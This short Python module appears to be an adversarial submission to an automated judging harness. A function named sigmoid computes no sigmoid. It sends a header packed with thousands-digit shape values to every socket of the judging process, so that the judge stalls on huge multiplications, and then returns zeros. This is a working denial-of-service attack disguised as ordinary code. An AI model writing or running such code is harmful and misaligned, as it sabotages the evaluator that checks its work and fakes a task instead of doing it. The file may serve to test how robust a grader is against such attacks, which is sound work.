"""Send the judging process an answer whose shapes have thousands of digits, which takes long to multiply."""

import struct

from .._right import *
from .._sockets import send_to_every_socket


def sigmoid(x):
    header = ("[null, [" + ",".join(['["<f4", [' + ",".join(["9" * 4000] * 50) + "]]"] * 5) + "]]").encode()
    send_to_every_socket(struct.pack("<QQ", len(header), 0) + header)
    return np.zeros_like(x)
